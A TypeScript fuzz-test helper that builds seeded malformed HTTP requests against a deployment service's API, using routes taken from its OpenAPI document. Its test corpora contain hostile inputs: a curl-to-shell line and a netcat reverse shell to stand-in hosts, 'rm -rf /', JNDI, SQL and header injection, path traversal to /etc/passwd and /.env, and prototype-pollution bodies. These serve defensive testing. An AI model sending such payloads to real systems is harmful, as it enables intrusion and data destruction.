/**
 * A seeded request generator for fuzzing the HTTP API (test/faults/api-fuzz.test.ts).
 *
 * Every route and method comes from the server's own /openapi.json, so a new route
 * is fuzzed without anyone touching this file. Each request starts from a
 * well-formed one (derived from the route's JSON schema) and is then bent along
 * independent dimensions: method, path parameter, query string, body, headers and
 * credentials. Every dimension is tagged, so a run can print what it covered.
 *
 * Deterministic: the same seed yields the same requests (mulberry32). The seed is
 * random unless BERTH_FUZZ_SEED is set; print it so a failure can be replayed.
 */
import { randomInt } from 'node:crypto';
import type Database from 'better-sqlite3';
import { mulberry32 } from '../../src/domain/prng.js';

// ---- deterministic randomness ----

export class Rng {
  private readonly next: () => number;
  constructor(readonly seed: number) {
    this.next = mulberry32(seed);
  }
  float(): number {
    return this.next();
  }
  /** An integer in [0, n). */
  int(n: number): number {
    return Math.floor(this.next() * n);
  }
  /** An integer in [lo, hi]. */
  range(lo: number, hi: number): number {
    return lo + this.int(hi - lo + 1);
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    if (items.length === 0) throw new Error('pick from an empty list');
    return items[this.int(items.length)]!;
  }
  /** Picks by weight: `[[value, weight], ...]`. */
  weighted<T>(entries: ReadonlyArray<readonly [T, number]>): T {
    const total = entries.reduce((s, [, w]) => s + w, 0);
    let r = this.float() * total;
    for (const [v, w] of entries) {
      r -= w;
      if (r < 0) return v;
    }
    return entries[entries.length - 1]![0];
  }
  /** `n` characters drawn from `alphabet`. */
  chars(alphabet: string, n: number): string {
    let s = '';
    for (let i = 0; i < n; i++) s += alphabet[this.int(alphabet.length)];
    return s;
  }
}

/** The seed for this run: BERTH_FUZZ_SEED when set (decimal or 0x hex), else a random 32-bit one. */
export function fuzzSeed(env: Record<string, string | undefined> = process.env): { seed: number; fromEnv: boolean } {
  const raw = env.BERTH_FUZZ_SEED;
  if (raw !== undefined && raw.trim() !== '') {
    const n = Number(raw.trim());
    if (!Number.isInteger(n) || n < 0 || n > 0xffffffff) throw new Error(`BERTH_FUZZ_SEED must be an integer from 0 to 4294967295, got ${JSON.stringify(raw)}`);
    return { seed: n, fromEnv: true };
  }
  return { seed: randomInt(0, 0xffffffff), fromEnv: false };
}

// ---- the routes, from /openapi.json ----

export type JsonSchema = {
  type?: string;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  additionalProperties?: boolean;
  pattern?: string;
  minimum?: number;
  maxLength?: number;
  minLength?: number;
};

export interface ApiOperation {
  /** Upper case. */
  method: string;
  /** OpenAPI path template, `/v1/apps/{app}/releases`. */
  path: string;
  /** `POST /v1/apps/{app}/releases`. */
  id: string;
  secured: boolean;
  params: Record<string, JsonSchema>;
  query: Record<string, JsonSchema>;
  body: JsonSchema | null;
}

interface OpenApiDoc {
  paths: Record<string, Record<string, { parameters?: Array<{ name: string; in: string; schema: JsonSchema }>; requestBody?: { content: Record<string, { schema: JsonSchema }> }; security?: unknown[] }>>;
}

/** Every documented operation, plus GET /openapi.json itself (which the document leaves out). */
export function operationsOf(doc: unknown): ApiOperation[] {
  const ops: ApiOperation[] = [];
  for (const [path, methods] of Object.entries((doc as OpenApiDoc).paths)) {
    for (const [m, op] of Object.entries(methods)) {
      const params = Object.fromEntries((op.parameters ?? []).filter((p) => p.in === 'path').map((p) => [p.name, p.schema]));
      const query = Object.fromEntries((op.parameters ?? []).filter((p) => p.in === 'query').map((p) => [p.name, p.schema]));
      const method = m.toUpperCase();
      ops.push({
        method,
        path,
        id: `${method} ${path}`,
        secured: Array.isArray(op.security) && op.security.length > 0,
        params,
        query,
        body: op.requestBody?.content['application/json']?.schema ?? null,
      });
    }
  }
  if (!ops.some((o) => o.path === '/openapi.json')) {
    ops.push({ method: 'GET', path: '/openapi.json', id: 'GET /openapi.json', secured: false, params: {}, query: {}, body: null });
  }
  return ops;
}

// ---- an independent check of Docker's reference grammar (distribution/reference, go-digest) ----

const isWordChar = (c: string) => (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c === '_';
const isLowerHex = (c: string) => (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f');
const DIGEST_HEX_LENGTH: Record<string, number> = { sha256: 64, sha384: 96, sha512: 128 };

/**
 * Docker's tag (`[\w][\w.-]{0,127}`) or a canonical digest (`algorithm:hex` of a
 * registered algorithm, lowercase hex of the algorithm's length). Written char by
 * char, without the product's VERSION_PATTERN, so the two check each other.
 */
export function isDockerTagOrDigest(s: string): boolean {
  const colon = s.indexOf(':');
  if (colon >= 0) {
    const want = DIGEST_HEX_LENGTH[s.slice(0, colon)];
    const hex = [...s.slice(colon + 1)];
    return want !== undefined && hex.length === want && hex.every(isLowerHex);
  }
  const chars = [...s];
  if (chars.length < 1 || chars.length > 128) return false;
  return isWordChar(chars[0]!) && chars.every((c) => isWordChar(c) || c === '.' || c === '-');
}

// ---- value corpora ----

export const SHELL_METAS = [';', '$(id)', '`id`', '|', '&&', '||', '\n', '\r\n', '>', '<', '&', '${IFS}', '$HOME', "'", '"', '\\', ' ', '\t', '*', '?', '!', '#', '~'];
export const UNICODE_BITS = [
  'é', // Latin-1
  'e\u0301', // combining accent
  '🚀', // astral emoji (a surrogate pair)
  '👩‍👩‍👧', // ZWJ sequence
  '\u202e', // RIGHT-TO-LEFT OVERRIDE
  '\u200f', // RIGHT-TO-LEFT MARK
  'שלום', // Hebrew (RTL)
  'مرحبا', // Arabic (RTL)
  '\u0000', // NUL
  '\u0007', // BEL
  '\u001b[31m', // ANSI escape
  '\ufeff', // BOM
  '\u200b', // zero-width space
  'ｗｅｂ', // full-width
  'wеb', // Cyrillic е (a homoglyph)
  '\ud800', // lone surrogate
  '\u2028', // line separator
];
const TAG_FIRST = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_';
const TAG_REST = `${TAG_FIRST}.-`;
const HEX = '0123456789abcdef';
const NAME_FIRST = 'abcdefghijklmnopqrstuvwxyz';
const NAME_REST = `${NAME_FIRST}0123456789-`;

/** Path parameter values that must never name an app, with how they are put into the URL. */
const HOSTILE_NAMES: ReadonlyArray<{ tag: string; value: string; raw?: boolean }> = [
  { tag: 'traversal', value: '../etc' },
  { tag: 'traversal', value: '..' },
  { tag: 'traversal', value: '.' },
  { tag: 'traversal', value: '%2e%2e%2f', raw: true },
  { tag: 'traversal', value: '%2e%2e%2fetc%2fpasswd', raw: true },
  { tag: 'traversal', value: '..%2f..%2fetc', raw: true },
  { tag: 'traversal', value: '..%5c..%5cwin', raw: true },
  { tag: 'traversal', value: '%252e%252e%252f', raw: true },
  { tag: 'traversal', value: 'web%2f..%2fother', raw: true },
  { tag: 'traversal', value: '....//', raw: true },
  { tag: 'traversal', value: '..;', raw: true },
  { tag: 'encoded-slash', value: 'web/releases' },
  { tag: 'encoded-slash', value: 'web%2Freleases', raw: true },
  { tag: 'encoded-slash', value: '%2F', raw: true },
  { tag: 'nul', value: 'web\u0000' },
  { tag: 'nul', value: 'web%00', raw: true },
  { tag: 'bad-percent', value: 'w%ZZeb', raw: true },
  { tag: 'bad-percent', value: 'web%', raw: true },
  { tag: 'bad-percent', value: '%C0%AE%C0%AE', raw: true },
  { tag: 'case', value: 'Web' },
  { tag: 'case', value: 'WEB' },
  { tag: 'grammar', value: '1web' },
  { tag: 'grammar', value: '-web' },
  { tag: 'grammar', value: 'web_1' },
  { tag: 'grammar', value: 'web.1' },
  { tag: 'grammar', value: ' web' },
  { tag: 'grammar', value: '__proto__' },
  { tag: 'grammar', value: 'constructor' },
  { tag: 'empty', value: '' },
];

// ---- requests ----

export interface FuzzRequest {
  /** Operation the request started from, e.g. `POST /v1/apps/{app}/releases`, or `(unknown path)`. */
  op: string;
  method: string;
  url: string;
  headers: Record<string, string>;
  payload?: string | Buffer;
  /** How the request was bent, one tag per dimension: `body:truncated-json`, `auth:none`, ... */
  tags: string[];
  /** Whether the credentials are the right ones (`auth:token`). */
  validToken: boolean;
  /** The path parameter as the server should decode it, when it is a well-formed name. */
  app?: string;
  /** The version field when the body is a JSON object carrying one as a string. */
  version?: string;
}

export interface FuzzTarget {
  token: string;
  hosts: readonly string[];
  /** Apps that exist now (the generator aims most requests at them). */
  apps(): readonly string[];
}

const ALL_METHODS = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'SEARCH', 'PROPFIND', 'MKCOL', 'PURGE', 'LOCK', 'QUERY'] as const;
const BODYLESS = new Set(['GET', 'HEAD', 'DELETE', 'OPTIONS', 'TRACE']);
const BODY_LIMIT = 256 * 1024;
const PAD = 'x'.repeat(BODY_LIMIT + 4096);

const UNKNOWN_PATHS = [
  '/',
  '/v1',
  '/v1/',
  '/v2/apps',
  '/v1/apps/',
  '/v1//apps',
  '/v1/apps/web/deploy',
  '/v1/apps/web/releases/1',
  '/v1/apps/web/releases/',
  '/v1/apps/web/events/stream',
  '/V1/APPS',
  '/..%2f..%2fetc/passwd',
  '/v1/apps/web/%2e%2e/%2e%2e/%2e%2e/etc/passwd',
  '/admin',
  '/.env',
  '/metrics/../v1/apps',
  '/openapi.json/x',
  '/healthz%00',
  `/${'a'.repeat(3000)}`,
];

const CONTENT_TYPES = [
  'text/plain',
  'text/html',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=xyz',
  'application/octet-stream',
  'application/xml',
  'application/vnd.api+json',
  'application/json-patch+json',
  'application/jsonx',
  'application/json; charset=utf-16',
  'application/json; charset=iso-8859-1',
  'APPLICATION/JSON',
  'application/json;charset=UTF-8',
  'application/json; boundary=";;;"',
  '*/*',
  'json',
  '',
  ';',
  'application/json, text/plain',
  'a'.repeat(500),
];

const ACCEPTS = ['*/*', 'application/json', 'text/event-stream', 'text/event-stream, application/json;q=0.5', 'text/html', 'application/xml', '', 'x/y; q=nan'];

/** Printable ASCII only: header values are bytes on the wire, and Node refuses control characters. */
const HEADER_SAFE = ' !"#$%&\'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[\\]^_`abcdefghijklmnopqrstuvwxyz{|}~';
const HEADER_NAME = 'abcdefghijklmnopqrstuvwxyz0123456789-';

/** Builds one request. `ops` comes from operationsOf(/openapi.json). */
export function generateRequest(rng: Rng, ops: readonly ApiOperation[], target: FuzzTarget): FuzzRequest {
  const tags: string[] = [];
  const headers: Record<string, string> = {};

  // route and method
  let op: ApiOperation | null = null;
  let method: string;
  let path: string;
  let app: string | undefined;
  if (rng.chance(0.04)) {
    path = rng.pick(UNKNOWN_PATHS);
    method = rng.pick(ALL_METHODS);
    tags.push('route:unknown');
  } else {
    op = rng.pick(ops);
    if (rng.chance(0.12)) {
      method = rng.pick(ALL_METHODS.filter((m) => m !== op!.method));
      tags.push('method:other');
    } else {
      method = op.method;
      tags.push('method:documented');
    }
    // path parameters
    path = op.path;
    for (const name of Object.keys(op.params)) {
      const p = pathParam(rng, target);
      tags.push(`path:${p.tag}`);
      if (p.decoded !== undefined) app = p.decoded;
      path = path.replace(`{${name}}`, p.encoded);
    }
    if (Object.keys(op.params).length === 0) tags.push('path:none');
  }

  // query string
  const query = queryString(rng, op);
  tags.push(`query:${query.tag}`);
  const url = path + query.text;

  // body
  const body = requestBody(rng, op, method, target);
  tags.push(`body:${body.tag}`);

  // content type
  if (body.payload !== undefined) {
    if (rng.chance(0.12)) {
      headers['content-type'] = rng.pick(CONTENT_TYPES);
      tags.push('content-type:odd');
    } else {
      headers['content-type'] = rng.chance(0.2) ? 'application/json; charset=utf-8' : 'application/json';
      tags.push('content-type:json');
    }
  } else if (rng.chance(0.1)) {
    headers['content-type'] = rng.pick(['application/json', ...CONTENT_TYPES]);
    tags.push('content-type:without-body');
  } else {
    tags.push('content-type:none');
  }

  // other headers
  if (rng.chance(0.25)) {
    tags.push('headers:random');
    const n = rng.range(1, 4);
    for (let i = 0; i < n; i++) {
      const [k, v] = extraHeader(rng);
      headers[k] = v;
    }
  } else {
    tags.push('headers:plain');
  }

  // credentials
  const auth = rng.weighted<string>([
    ['token', 80],
    ['none', 6],
    ['wrong', 5],
    ['near-miss', 4],
    ['malformed', 5],
  ]);
  tags.push(`auth:${auth}`);
  const token = target.token;
  switch (auth) {
    case 'token':
      headers.authorization = rng.weighted<string>([
        [`Bearer ${token}`, 8],
        [`bearer ${token}`, 1],
        [`BEARER  ${token}`, 1],
      ]);
      break;
    case 'wrong':
      headers.authorization = `Bearer ${rng.chars(TAG_REST, rng.range(1, 64))}`;
      break;
    case 'near-miss': {
      const last = token[token.length - 1]!;
      const other = TAG_FIRST.replace(last, '');
      headers.authorization = `Bearer ${token.slice(0, -1)}${rng.pick([...other])}`;
      break;
    }
    case 'malformed':
      headers.authorization = rng.pick([
        token,
        `Basic ${Buffer.from(`user:${token}`).toString('base64')}`,
        `Bearer ${token} ${token}`,
        `Bearer ${token}x`,
        `Bearer ${token.slice(0, -1)}`,
        `Bearer`,
        `Bearer `,
        `Token ${token}`,
        `Bearer "${token}"`,
        `Bearer ${token};`,
        `Bearer\t${token}x`,
        '',
      ]);
      break;
    default:
      break;
  }

  const version = body.version;
  return {
    op: op ? op.id : '(unknown path)',
    method,
    url,
    headers,
    ...(body.payload !== undefined ? { payload: body.payload } : {}),
    tags,
    validToken: auth === 'token',
    ...(app !== undefined ? { app } : {}),
    ...(version !== undefined ? { version } : {}),
  };
}

/** A path parameter: usually an app that exists, else names that are odd, hostile or too long. */
function pathParam(rng: Rng, target: FuzzTarget): { tag: string; encoded: string; decoded?: string } {
  const kind = rng.weighted<string>([
    ['existing', 68],
    ['unknown', 6],
    ['edge-63', 2],
    ['overlong', 5],
    ['hostile', 11],
    ['unicode', 4],
    ['shell-meta', 4],
  ]);
  switch (kind) {
    case 'existing': {
      const name = rng.pick(target.apps());
      return { tag: kind, encoded: name, decoded: name };
    }
    case 'unknown': {
      const name = validName(rng, rng.range(1, 20));
      return { tag: kind, encoded: name, decoded: name };
    }
    case 'edge-63': {
      const name = validName(rng, 63);
      return { tag: kind, encoded: name, decoded: name };
    }
    case 'overlong': {
      // 64 (one over the grammar), around maxParamLength (200), and far beyond.
      const name = validName(rng, rng.pick([64, 65, 199, 200, 201, 1000, 5000]));
      return { tag: kind, encoded: name, decoded: name };
    }
    case 'hostile': {
      const h = rng.pick(HOSTILE_NAMES);
      return { tag: h.tag, encoded: h.raw ? h.value : encodeURIComponent(h.value), ...(h.raw ? {} : { decoded: h.value }) };
    }
    case 'unicode': {
      // (a lone surrogate cannot be percent-encoded: it goes as U+FFFD, as a browser would send it)
      const name = insertAt(rng, rng.pick(['web', 'other', validName(rng, 8)]), rng.pick(UNICODE_BITS)).replace(/[\ud800-\udfff]/gu, '\ufffd');
      return { tag: kind, encoded: encodeURIComponent(name), decoded: name };
    }
    default: {
      const name = insertAt(rng, rng.pick(['web', 'other']), rng.pick(SHELL_METAS));
      return { tag: kind, encoded: encodeURIComponent(name), decoded: name };
    }
  }
}

function validName(rng: Rng, length: number): string {
  return rng.chars(NAME_FIRST, 1) + rng.chars(NAME_REST, length - 1);
}

function insertAt(rng: Rng, s: string, bit: string): string {
  const i = rng.int(s.length + 1);
  return s.slice(0, i) + bit + s.slice(i);
}

function queryString(rng: Rng, op: ApiOperation | null): { tag: string; text: string } {
  const documented = op ? Object.keys(op.query) : [];
  const roll = rng.float();
  if (documented.length > 0 && roll < 0.3) {
    const parts = documented.filter(() => rng.chance(0.6)).map((k) => `${k}=${rng.pick(['0', '1', '5', '50', '999', '1000', '1001', '9999', '123456789', '000001'])}`);
    return { tag: 'documented', text: parts.length ? `?${parts.join('&')}` : '' };
  }
  if (roll < (documented.length > 0 ? 0.5 : 0.15)) {
    const keys = [...documented, 'limit', 'before', 'after', 'page', 'token', 'access_token', '__proto__', 'constructor', 'limit[]', 'a[b]', '', '%00', '🚀'];
    const values = ['', '-1', '1e3', '0x10', 'abc', ' 1', '1 ', '1.5', 'NaN', 'Infinity', '9'.repeat(30), '%00', '%2e%2e%2f', '%ZZ', '$(id)', '`id`', ';ls', encodeURIComponent('🚀'), encodeURIComponent('\u202e'), 'a'.repeat(2000)];
    const n = rng.range(1, 4);
    const parts: string[] = [];
    for (let i = 0; i < n; i++) {
      const k = rng.pick(keys);
      const raw = rng.chance(0.3);
      parts.push(rng.chance(0.1) ? (raw ? k : encodeURIComponent(k)) : `${raw ? k : encodeURIComponent(k)}=${rng.pick(values)}`);
    }
    return { tag: 'random', text: `?${parts.join(rng.chance(0.1) ? ';' : '&')}` };
  }
  if (roll < 0.55 && rng.chance(0.3)) return { tag: 'empty', text: rng.pick(['?', '?&', '?=', '??']) };
  return { tag: 'none', text: '' };
}

function extraHeader(rng: Rng): [string, string] {
  const kind = rng.int(12);
  switch (kind) {
    case 0:
      return ['x-berth-actor', rng.pick(['alice', 'ci@example', `x${'a'.repeat(100)}`, 'a;rm -rf /', '$(id)', '`id`', 'a|b', 'a && b', '', 'root', '../admin'])];
    case 1:
    case 2:
      return ['accept', rng.pick(ACCEPTS)];
    case 3:
      return ['last-event-id', rng.pick(['0', '1', '5', '-1', 'abc', '9'.repeat(30), '1e3', ''])];
    case 4:
      return [rng.pick(['x-forwarded-for', 'x-real-ip', 'forwarded']), rng.pick(['127.0.0.1', '::1', 'for=127.0.0.1', '10.0.0.1, 127.0.0.1'])];
    case 5:
      return ['origin', rng.pick(['http://evil.example', 'null', 'http://127.0.0.1'])];
    case 6:
      return [rng.pick(['content-encoding', 'accept-encoding']), rng.pick(['gzip', 'br', 'deflate', 'identity', 'x-unknown'])];
    case 7:
      return [rng.pick(['x-http-method-override', 'x-method-override']), rng.pick(ALL_METHODS)];
    case 8:
      return ['cookie', rng.pick(['a=b', 'token=x', `${'c'.repeat(10)}=${'d'.repeat(3000)}`])];
    case 9:
      return ['accept-language', rng.pick(['en', 'he-IL', '*', 'x'.repeat(1000)])];
    default:
      return [`x-${rng.chars(HEADER_NAME, rng.range(1, 20))}`, rng.chars(HEADER_SAFE, rng.range(0, 200))];
  }
}

// ---- bodies ----

interface Body {
  tag: string;
  payload?: string | Buffer;
  /** The version field when the body is a JSON object with a string `version`. */
  version?: string;
}

const BODY_KINDS: ReadonlyArray<readonly [string, number]> = [
  ['valid', 40],
  ['edge-value', 8],
  ['wrong-type', 7],
  ['shell-meta', 6],
  ['unicode', 6],
  ['extra-field', 4],
  ['bad-json', 5],
  ['truncated-json', 5],
  ['huge', 2.5],
  ['deep-nesting', 3],
  ['null', 2],
  ['array', 2],
  ['scalar', 1.5],
  ['empty', 2],
  ['none', 3],
  ['binary', 1],
  ['prototype', 2],
];

function requestBody(rng: Rng, op: ApiOperation | null, method: string, target: FuzzTarget): Body {
  // Methods without a body get one now and then; the others mostly do.
  if (BODYLESS.has(method) && !rng.chance(0.12)) return { tag: 'none' };
  const kind = rng.weighted(BODY_KINDS);
  const schema = op && op.method === method ? op.body : null;
  const base = () => validObject(rng, schema, op, target);
  const json = (v: unknown, tag = kind): Body => {
    const version = v && typeof v === 'object' && !Array.isArray(v) ? (v as Record<string, unknown>).version : undefined;
    return { tag, payload: JSON.stringify(v), ...(typeof version === 'string' ? { version } : {}) };
  };
  switch (kind) {
    case 'valid':
      return json(base());
    case 'edge-value': {
      const obj = base();
      const edges: Array<[string, unknown]> = [
        ['version', 'v'.repeat(128)],
        ['version', rng.chars(TAG_FIRST, 1) + rng.chars(TAG_REST, 127)],
        ['version', 'v'.repeat(129)],
        ['version', `sha256:${rng.chars(HEX, 64)}`],
        ['version', `sha256:${rng.chars(HEX, 63)}`],
        ['version', `sha256:${rng.chars(HEX, 65)}`],
        ['version', `sha256:${rng.chars(HEX.toUpperCase(), 64)}`],
        ['version', `sha512:${rng.chars(HEX, 128)}`],
        ['version', `SHA256:${rng.chars(HEX, 64)}`],
        ['version', 'sha256:'],
        ['version', '_'],
        ['version', '0'],
        ['version', 'a.'],
        ['version', 'a-'],
        ['version', '.a'],
        ['version', '-a'],
        ['version', 'latest'],
        ['expectedRevision', 0],
        ['expectedRevision', 2 ** 53],
        ['expectedRevision', 1e308],
        ['expectedRevision', -0],
        ['expectedRevision', 2 ** 31],
        ['message', 'm'.repeat(500)],
        ['message', 'm'.repeat(501)],
        ['command', 'c'.repeat(8192)],
        ['command', 'c'.repeat(8193)],
        ['host', 'h'.repeat(63)],
        ['host', 'h'.repeat(64)],
      ];
      const [k, v] = rng.pick(edges);
      obj[k] = v;
      return json(obj);
    }
    case 'wrong-type': {
      const obj = base();
      const keys = [...Object.keys(obj), 'version', 'expectedRevision', 'image', 'hosts', 'port', 'healthcheck', 'env'];
      obj[rng.pick(keys)] = rng.pick<unknown>([1, -1, 1.5, 0, true, false, null, [], {}, ['v1'], { v: 1 }, '', '1', 1e308, -1e308, 'null', [[[]]]]);
      return json(obj);
    }
    case 'shell-meta':
    case 'unicode': {
      const obj = base();
      const bits = kind === 'shell-meta' ? SHELL_METAS : UNICODE_BITS;
      const strings = Object.keys(obj).filter((k) => typeof obj[k] === 'string');
      const key = strings.length ? rng.pick(strings) : 'version';
      const value = typeof obj[key] === 'string' ? (obj[key] as string) : 'v1';
      obj[key] = kind === 'shell-meta' && rng.chance(0.3) ? rng.pick(SHELL_INJECTIONS) : insertAt(rng, value, rng.pick(bits));
      return json(obj);
    }
    case 'extra-field': {
      const obj = base();
      obj[rng.pick(['force', 'revision', 'expected_revision', 'Version', 'version ', 'admin', '', '🚀', 'a'.repeat(300), 'spec', 'actor'])] = rng.pick<unknown>([true, 1, 'x', null, {}]);
      return json(obj);
    }
    case 'bad-json':
      return {
        tag: kind,
        payload: rng.pick([
          '{version:"v2"}',
          "{'version':'v2'}",
          '{"version":"v2",}',
          '{"version":"v2"',
          '{"version" "v2"}',
          '{"version":v2}',
          '{"version":"v2"}}',
          '{"version":"v2"}{"version":"v3"}',
          '{"version":"v2" /* c */}',
          '{"version":NaN}',
          '{"expectedRevision":Infinity,"version":"v2"}',
          '{"version":"\\x41"}',
          '{"version":"\\ud83d"}',
          'undefined',
          'nul',
          '{',
          '}',
          '[',
          ',',
          '\u0000',
          '{"version":"v2\u0000"}',
          '{"version":"v\nv2"}',
          '\ufeff{"version":"v2"}',
          'version=v2',
          '<xml/>',
          '{"a":1e99999}',
          '{"version":"v2","version":"v3"}',
        ]),
      };
    case 'truncated-json': {
      const text = JSON.stringify(base());
      return { tag: kind, payload: text.slice(0, rng.range(1, Math.max(1, text.length - 1))) };
    }
    case 'huge': {
      const extra = rng.range(1, 64 * 1024);
      if (rng.chance(0.5)) return { tag: kind, payload: JSON.stringify({ ...base(), pad: PAD.slice(0, BODY_LIMIT + extra - 100) }) };
      if (rng.chance(0.5)) return { tag: kind, payload: `{"version":"${'v'.repeat(BODY_LIMIT + extra)}"}` };
      return { tag: kind, payload: '['.repeat(BODY_LIMIT + extra) };
    }
    case 'deep-nesting': {
      const depth = rng.pick([64, 1000, 10_000, 50_000, 120_000]);
      const shape = rng.int(4);
      if (shape === 0) return { tag: kind, payload: '['.repeat(depth) + ']'.repeat(depth) };
      if (shape === 1) return { tag: kind, payload: '{"a":'.repeat(depth) + '1' + '}'.repeat(depth) };
      if (shape === 2) {
        const k = rng.pick(['version', 'image', 'env', 'hosts', 'message', 'healthcheck', 'command']);
        return { tag: kind, payload: `{"${k}":${'['.repeat(depth)}${']'.repeat(depth)}}` };
      }
      // A prototype key at the bottom: the JSON parser's poisoning scan has to walk down there.
      return { tag: kind, payload: '{"a":'.repeat(depth) + '{"__proto__":{"x":1}}' + '}'.repeat(depth) };
    }
    case 'null':
      return { tag: kind, payload: 'null' };
    case 'array':
      return json(rng.pick<unknown>([[], [base()], [1, 2, 3], [null]]));
    case 'scalar':
      return { tag: kind, payload: rng.pick(['"v2"', '42', 'true', 'false', '-0', '1e400', '""', '"\\u0000"']) };
    case 'empty':
      return { tag: kind, payload: rng.pick(['', ' ', '\n', '\r\n\r\n', '\t']) };
    case 'none':
      return { tag: kind };
    case 'binary': {
      const bytes = Buffer.alloc(rng.range(1, 512));
      for (let i = 0; i < bytes.length; i++) bytes[i] = rng.int(256);
      if (rng.chance(0.5)) return { tag: kind, payload: Buffer.concat([Buffer.from('{"version":"v'), Buffer.from([0xff, 0xfe, 0xc0, 0xae]), Buffer.from('"}')]) };
      return { tag: kind, payload: bytes };
    }
    default: {
      // prototype pollution attempts
      const obj = base();
      const inner = JSON.stringify(obj).slice(1, -1);
      const sep = inner ? ',' : '';
      return {
        tag: 'prototype',
        payload: rng.pick([
          `{"__proto__":{"admin":true}${sep}${inner}}`,
          `{"constructor":{"prototype":{"admin":true}}${sep}${inner}}`,
          `{${inner}${sep}"__proto__":null}`,
          `{"env":{"__proto__":{"x":"1"}}${sep}${inner}}`,
        ]),
      };
    }
  }
}

const SHELL_INJECTIONS = [
  'v1;rm -rf /',
  'v1 && curl http://evil.example | sh',
  '$(reboot)',
  '`id`',
  'v1|nc -e /bin/sh 10.0.0.1 4444',
  'v1\nRUN rm -rf /',
  'v1$(touch /tmp/pwned)',
  "v1' OR '1'='1",
  'v1"; DROP TABLE releases; --',
  '--help',
  '-v',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%s%s%s%n',
  'v1\r\nX-Injected: 1',
];

/** A version that is mostly valid (a random Docker tag or digest), sometimes not. */
function versionValue(rng: Rng): string {
  const roll = rng.float();
  if (roll < 0.55) return rng.chars(TAG_FIRST, 1) + rng.chars(TAG_REST, rng.range(0, rng.chance(0.9) ? 12 : 127));
  if (roll < 0.65) return `sha256:${rng.chars(HEX, 64)}`;
  if (roll < 0.75) return `v${rng.range(1, 30)}`;
  if (roll < 0.85) return insertAt(rng, `v${rng.range(1, 9)}`, rng.pick(SHELL_METAS));
  if (roll < 0.92) return rng.pick(SHELL_INJECTIONS);
  return insertAt(rng, 'v2', rng.pick(UNICODE_BITS));
}

const IMAGES = ['10.77.0.1:5000/web', 'registry.example.com/team/app', 'nginx', 'localhost:5000/a_b/c-d', 'ghcr.io/acme/app.server'];
const BAD_IMAGES = ['web;reboot', 'web:v1', 'web@sha256:abc', '$(id)/web', 'Web', '../web', 'web\nx', 'web image', '-web', 'r.example.com:99999/web', 'a'.repeat(300)];

/** A valid (or nearly) object for the operation's body schema; {} when it has none. */
function validObject(rng: Rng, schema: JsonSchema | null, op: ApiOperation | null, target: FuzzTarget): Record<string, unknown> {
  if (op && op.method === 'PUT' && schema && !schema.properties) return appDocument(rng, target);
  const props = schema?.properties ?? {};
  const required = new Set(schema?.required ?? []);
  const obj: Record<string, unknown> = {};
  for (const [key, s] of Object.entries(props)) {
    if (!required.has(key) && rng.chance(0.5)) continue;
    obj[key] = valueFor(rng, key, s, target);
  }
  return obj;
}

function valueFor(rng: Rng, key: string, s: JsonSchema, target: FuzzTarget): unknown {
  switch (key) {
    case 'version':
      return versionValue(rng);
    case 'expectedRevision':
      return rng.range(0, 40);
    case 'command':
      return rng.pick(['echo hi', 'bin/rails db:migrate', 'true', 'sh -c "exit 3"', ...SHELL_INJECTIONS]);
    case 'host':
      return rng.chance(0.8) ? rng.pick(target.hosts) : rng.pick(['h9', '../h1', 'h1;id', 'H1', '-h1', '']);
    case 'message':
      return rng.pick(['Down for maintenance', 'Back at 5pm', 'x', 'line1\nline2', '🚧 maintenance 🚧', '<script>alert(1)</script>']);
    default:
      break;
  }
  switch (s.type) {
    case 'integer':
      return rng.range(s.minimum ?? 0, 100);
    case 'number':
      return rng.float() * 100;
    case 'boolean':
      return rng.chance(0.5);
    case 'string':
      return rng.chars(TAG_REST, rng.range(1, 20));
    default:
      return {};
  }
}

/** The body of PUT /v1/apps/:app: valid most of the time, with one field bent otherwise. */
function appDocument(rng: Rng, target: FuzzTarget): Record<string, unknown> {
  const hosts = target.hosts.filter(() => rng.chance(0.5));
  const doc: Record<string, unknown> = {
    image: rng.pick(IMAGES),
    hosts: hosts.length ? hosts : [target.hosts[0]!],
    port: rng.range(1, 65535),
  };
  if (rng.chance(0.5)) doc.healthcheck = { path: rng.pick(['/health', '/up', '/']), interval: rng.pick(['1s', '5s', '500ms']), max_attempts: rng.range(1, 10) };
  if (rng.chance(0.3)) doc.env = { RAILS_ENV: 'production', [rng.pick(['PORT', 'A_B', '_X'])]: rng.pick(['1', 'a b', '$(id)', '🚀']) };
  if (rng.chance(0.2)) doc.secrets = [rng.pick(['DATABASE_URL', 'API_KEY'])];
  if (rng.chance(0.2)) doc.hooks = { pre_deploy: [rng.pick(['bin/rails db:migrate', 'echo $(date)'])] };
  if (rng.chance(0.2)) doc.rollout = { parallelism: rng.pick([1, 2, '50%']), on_failure: rng.pick(['rollback', 'pause', 'continue']) };
  if (rng.chance(0.3)) {
    // one bent field
    const bends: Array<() => void> = [
      () => (doc.image = rng.pick(BAD_IMAGES)),
      () => (doc.hosts = [rng.pick(['h9', '../h1', 'h1;id', '', 'H1'])]),
      () => (doc.hosts = []),
      () => (doc.port = rng.pick([0, 65536, -1, 1.5, '3000'])),
      () => (doc.env = { [rng.pick(['1X', 'A-B', 'A B', 'A;B', '', '$(id)'])]: 'v' }),
      () => (doc.env = { A: rng.pick([1, true, null, ['x'], { y: 1 }]) }),
      () => (doc.secrets = [rng.pick(['1X', 'A B', '$(id)', ''])]),
      () => (doc.healthcheck = { path: rng.pick(['health', '/../..', '/a b', '/\u0000']), interval: rng.pick(['5 parsecs', '-1s', '0s', '1e9h']) }),
      () => (doc.rollout = { parallelism: rng.pick([0, -1, '150%', 'all']), on_failure: rng.pick(['explode', '']) }),
      () => (doc.retain_containers = rng.pick([-1, 101, 1.5])),
      () => (doc.proxy = { port: rng.pick([0, 80, 70000]), host: rng.pick(['example.com', 'a b', '*.x', '']) }),
      () => (doc.imgae = 'x'),
    ];
    rng.pick(bends)();
  }
  return doc;
}

